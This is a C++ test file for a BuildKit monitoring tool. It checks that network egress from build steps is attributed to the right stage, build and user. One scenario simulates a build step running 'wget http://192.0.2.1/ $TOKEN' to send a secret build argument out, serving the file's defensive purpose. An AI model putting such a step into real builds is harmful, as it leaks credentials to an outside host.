// Builds with BuildKit through the whole pipeline, and spoilt.
#include <catch2/catch_test_macros.hpp>

#include "harness/buildkit_engine.h"
#include "harness/spoilt.h"

namespace kilnwatch::test {
namespace {

const std::string kBase = "docker.io/library/alpine:3";
const std::string kImage = "sha256:" + std::string(64, 'e');

Events main_chain() {
  BuildKitEngine engine;
  engine.request(1, 100, "evil:1", "&buildargs=%7B%22TOKEN%22%3A%22kw-canary-arg%22%7D");
  const std::string name = "[2/3] RUN wget http://192.0.2.1/ kw-canary-arg";
  engine.graph(1, 300, kBase, {name, "[3/3] RUN true"});
  engine.step({1, name, "wget http://192.0.2.1/ $TOKEN", 'a', "192.0.2.1", 400});
  engine.tell(1, 750, Status().log(name, BuildKitEngine::wall(700), "kw-canary-output"));
  engine.step({1, "[3/3] RUN true", "true", 'b', "", 1000});
  engine.end(1, 1800, kImage);
  engine.deploy(2, 2500, "evil:1", 'c');
  return engine.events();
}

std::string stage_line(char stage, int n) {
  return "wget http://192.0.2." + std::to_string((stage - 'a') * 10 + n) + "/";
}
std::string stage_name(char stage, int n) {
  return std::string("[") + stage + " " + std::to_string(n + 2) + "/4] RUN " + stage_line(stage, n);
}

// Three stages of three steps, side by side.
void three_stages(BuildKitEngine& engine, domain::ConnId conn, std::uint64_t from, char first_id,
                  const std::string& ip, const std::string& digests = {}) {
  std::vector<std::string> names;
  for (char stage = 'a'; stage <= 'c'; ++stage) {
    for (int n = 0; n < 3; ++n) names.push_back(stage_name(stage, n));
  }
  engine.graph(conn, from, kBase, names);
  for (int n = 0; n < 3; ++n) {
    for (char stage = 'a'; stage <= 'c'; ++stage) {
      const auto k = (stage - 'a') * 3 + n;
      const auto name = stage_name(stage, n);
      engine.step({conn, name, stage_line(stage, n), static_cast<char>(first_id + k),
                   ip + std::to_string((stage - 'a') * 10 + n),
                   from + 100 + static_cast<std::uint64_t>(n * 900 + ('c' - stage) * 3), 700,
                   vertex_digest(digests + name)});
    }
  }
}

Events parallel() {
  BuildKitEngine engine;
  engine.request(1, 100, "nine:1");
  three_stages(engine, 1, 300, '0', "192.0.2.");
  engine.end(1, 3600, kImage);
  return engine.events();
}

// The same line in two stages, one after the other; which is which is told by when they run.
Events same_line() {
  BuildKitEngine engine;
  engine.request(1, 100, "same:1");
  const std::string one = "[one 2/2] RUN wget http://a/", two = "[two 2/3] RUN wget http://a/";
  engine.graph(1, 300, kBase, {one, two});
  engine.step({1, one, "wget http://a/", 'a', "192.0.2.1", 400, 1500});
  engine.step({1, two, "wget http://a/", 'b', "192.0.2.2", 2600, 1500});
  for (std::uint64_t t = 500; t < 4000; t += 100)
    engine.tell(1, t, Status().log(one, BuildKitEngine::wall(t - 20), "progress"));
  engine.end(1, 4600, kImage);
  return engine.events();
}

// At the same time: nothing tells them apart.
Events same_line_at_once() {
  BuildKitEngine engine;
  engine.request(1, 100, "same:1");
  const std::string one = "[one 2/2] RUN wget http://a/", two = "[two 2/3] RUN wget http://a/";
  engine.graph(1, 300, kBase, {one, two});
  engine.step({1, one, "wget http://a/", 'a', "192.0.2.1", 400, 3000});
  engine.step({1, two, "wget http://a/", 'b', "192.0.2.2", 401, 3000});
  engine.end(1, 4600, kImage);
  return engine.events();
}

// At the same time, on layers of different steps.
Events same_line_on_layers() {
  BuildKitEngine engine;
  engine.request(1, 100, "same:1");
  const std::string a = "[one 2/3] RUN echo a", b = "[two 2/3] RUN echo b";
  const std::string one = "[one 3/3] RUN wget http://a/", two = "[two 3/3] RUN wget http://a/";
  engine.graph(1, 300, kBase,
               std::vector<BuildKitEngine::Node>{{a, ""}, {b, ""}, {one, a}, {two, b}});
  engine.step({1, a, "echo a", 'a', "", 400, 400, {}, {}, {"l/A", "l/0"}});
  engine.step({1, b, "echo b", 'b', "", 405, 400, {}, {}, {"l/B", "l/0"}});
  engine.step(
      {1, two, "wget http://a/", 'd', "192.0.2.2", 1500, 3000, {}, {}, {"l/D", "l/B", "l/0"}});
  engine.step(
      {1, one, "wget http://a/", 'c', "192.0.2.1", 1501, 3000, {}, {}, {"l/C", "l/A", "l/0"}});
  engine.end(1, 4800, kImage);
  return engine.events();
}

// One Dockerfile by two users, whose contexts differ.
Events same_dockerfile() {
  BuildKitEngine engine;
  engine.request(1, 100, "one:1");
  engine.request(2, 150, "two:1");
  const std::string name = "[3/3] RUN wget http://a/", copy = "[2/3] COPY who /";
  for (const domain::ConnId conn : {1, 2}) {
    engine.graph(conn, 250 + 50 * conn, kBase, std::vector<BuildKitEngine::Node>{{copy, ""}});
    const auto began = 400 + 40 * conn;
    const auto ip = "192.0.2." + std::to_string(conn);
    engine.step({conn,
                 name,
                 "wget http://a/",
                 static_cast<char>('a' + conn),
                 ip,
                 began,
                 3000,
                 vertex_digest(ip),
                 {},
                 {"l/" + ip, "l/0"},
                 began + 5});
  }
  engine.end(1, 4500, kImage);
  engine.end(2, 4600, kImage);
  return engine.events();
}

// Two users at once, stages side by side, none of the steps shared.
Events two_builds() {
  BuildKitEngine engine;
  engine.request(1, 100, "one:1");
  engine.request(2, 150, "two:1");
  three_stages(engine, 1, 300, '0', "192.0.2.");
  const std::string one = "[2/3] RUN wget http://198.51.100.1/";
  const std::string two = "[3/3] RUN wget http://198.51.100.2/";
  engine.graph(2, 350, kBase, {one, two});
  engine.step({2, one, "wget http://198.51.100.1/", 'x', "198.51.100.1", 500, 900});
  engine.step({2, two, "wget http://198.51.100.2/", 'y', "198.51.100.2", 1500, 900});
  engine.end(1, 3600, kImage);
  engine.end(2, 3000, "sha256:" + std::string(64, 'f'));
  return engine.events();
}

Events failing() {
  BuildKitEngine engine;
  engine.request(1, 100, "fails:1");
  const std::string name = "[2/2] RUN wget http://192.0.2.1/; false";
  engine.graph(1, 300, kBase, {name});
  engine.step(
      {1, name, "wget http://192.0.2.1/; false", 'a', "192.0.2.1", 400, 400, {}, "exit code: 1"});
  engine.end(1, 1000, "", "executor failed running");
  engine.deploy(2, 2000, "fails:1", 'c');
  return engine.events();
}

Events cached() {
  BuildKitEngine engine;
  engine.request(1, 100, "again:1");
  engine.graph(1, 200, kBase, {"[2/2] RUN x"});
  const auto now = BuildKitEngine::wall(230);
  engine.tell(1, 300, Status().vertex("[2/2] RUN x", now, now, true));
  engine.end(1, 400, kImage);
  return engine.events();
}

const Scenes kAll = {{"main chain", main_chain},
                     {"three stages", parallel},
                     {"same line", same_line},
                     {"same line at once", same_line_at_once},
                     {"two builds", two_builds},
                     {"fails", failing},
                     {"same line on layers", same_line_on_layers},
                     {"same Dockerfile", same_dockerfile},
                     {"cached", cached}};

}  // namespace

TEST_CASE("buildkit: the chain from request to deployment") {
  const auto alerts = alerts_of(main_chain());
  INFO(text_of(alerts));
  REQUIRE(alerts.size() == 3);
  const auto& request = alerts[0];
  CHECK(request.build().engine() == v1::ENGINE_DOCKER_BUILDKIT);
  CHECK(request.build().client().uid() == 1001);
  CHECK(request.build().request().base_images(0) == kBase);
  CHECK(request.build().request().remote_context().empty());
  CHECK(request.build().request().build_arg_names(0) == "TOKEN");
  const auto& step = alerts[1].step();
  CHECK(step.attribution() == v1::ATTRIBUTION_EXACT);
  CHECK(step.number() == 2);
  CHECK(step.total() == 3);
  CHECK(step.instruction() == "RUN wget http://192.0.2.1/ $TOKEN");
  CHECK(step.container_id() == std::string(25, 'a'));
  CHECK(alerts[2].rule() == "image-deploy");
  CHECK(alerts[2].image().id() == kImage);
  CHECK(alerts[2].build().id() == request.build().id());
}

TEST_CASE("buildkit: nine addresses of three stages side by side, also beside another build") {
  for (const auto& events : {parallel(), two_builds()}) {
    const auto alerts = alerts_of(events);
    std::size_t nine = 0;
    for (const auto& alert : of_rule(alerts, "build-egress")) {
      CHECK(alert.step().attribution() == v1::ATTRIBUTION_EXACT);
      const auto& ip = alert.connection().destination().ip();
      CHECK(alert.step().instruction() == "RUN wget http://" + ip + "/");
      const bool first = ip.starts_with("192.0.2.");
      CHECK((alert.build().request().tags(0) != "two:1") == first);
      if (!first) continue;
      ++nine;
      const auto last = std::stoul(ip.substr(8));
      CHECK(alert.step().stage() == std::string(1, static_cast<char>('a' + last / 10)));
      CHECK(alert.step().number() == 2 + last % 10);
    }
    CHECK(nine == 9);
    CHECK(of_rule(alerts, "sensor-blind").empty());
  }
}

TEST_CASE("buildkit: the same line in two stages") {
  auto egress = of_rule(alerts_of(same_line()), "build-egress");
  REQUIRE(egress.size() == 2);
  CHECK(egress[0].step().stage() == "one");
  CHECK(egress[1].step().stage() == "two");
  CHECK(egress[0].step().attribution() == v1::ATTRIBUTION_EXACT);
  CHECK(egress[1].step().attribution() == v1::ATTRIBUTION_EXACT);
  egress = of_rule(alerts_of(same_line_at_once()), "build-egress");
  REQUIRE(egress.size() == 2);
  for (const auto& alert : egress) {
    CHECK(alert.step().attribution() == v1::ATTRIBUTION_AMBIGUOUS);
    CHECK(has_reason(alert, "candidate"));
  }
}

TEST_CASE("buildkit: layers tell the stage, and the build") {
  auto egress = of_rule(alerts_of(same_line_on_layers()), "build-egress");
  REQUIRE(egress.size() == 2);
  for (const auto& alert : egress) {
    CHECK(alert.step().attribution() == v1::ATTRIBUTION_EXACT);
    const bool first = alert.connection().destination().ip() == "192.0.2.1";
    CHECK(alert.step().stage() == (first ? "one" : "two"));
  }
  egress = of_rule(alerts_of(same_dockerfile()), "build-egress");
  REQUIRE(egress.size() == 2);
  for (const auto& alert : egress) {
    CHECK(alert.step().attribution() == v1::ATTRIBUTION_EXACT);
    const bool first = alert.connection().destination().ip() == "192.0.2.1";
    CHECK(alert.build().request().tags(0) == (first ? "one:1" : "two:1"));
  }
}

TEST_CASE("buildkit: a cached rebuild, and one that fails") {
  const auto again = alerts_of(cached());
  REQUIRE(again.size() == 1);
  CHECK(has_reason(again[0], "cached"));
  CHECK(again[0].build().status() == v1::BUILD_STATUS_SUCCEEDED);
  const auto alerts = alerts_of(failing());
  CHECK(of_rule(alerts, "build-request").size() == 1);
  CHECK(of_rule(alerts, "build-egress").size() == 1);
  REQUIRE(of_rule(alerts, "build-failed").size() == 1);
  CHECK(of_rule(alerts, "build-failed")[0].step().number() == 2);
  CHECK(of_rule(alerts, "build-failed")[0].build().status() == v1::BUILD_STATUS_FAILED);
  CHECK(of_rule(alerts, "image-deploy").empty());
}

TEST_CASE("buildkit: permuted within 50 ms the very same alerts") { same_in_any_order(kAll); }

TEST_CASE("buildkit: with lost records never a wrong attribution, and what is missing is said") {
  never_wrong_with_losses(kAll);
}

TEST_CASE("buildkit: from a late start never a wrong attribution") {
  never_wrong_from_late_starts(kAll);
}

TEST_CASE("buildkit: a recording gives the same alerts, and no canary") {
  same_from_recordings(kAll, [](const Recorded& recorded) {
    no_canary(recorded);
    for (const auto& event : recorded.recording.events) {
      const auto* data = std::get_if<domain::ConnData>(&event);
      const auto at = data == nullptr ? std::string::npos : data->bytes.find("aux\":\"");
      if (at == std::string::npos) continue;
      CHECK(base::from_base64(data->bytes.substr(at + 6)).find("canary") == std::string::npos);
    }
  });
}

}  // namespace kilnwatch::test
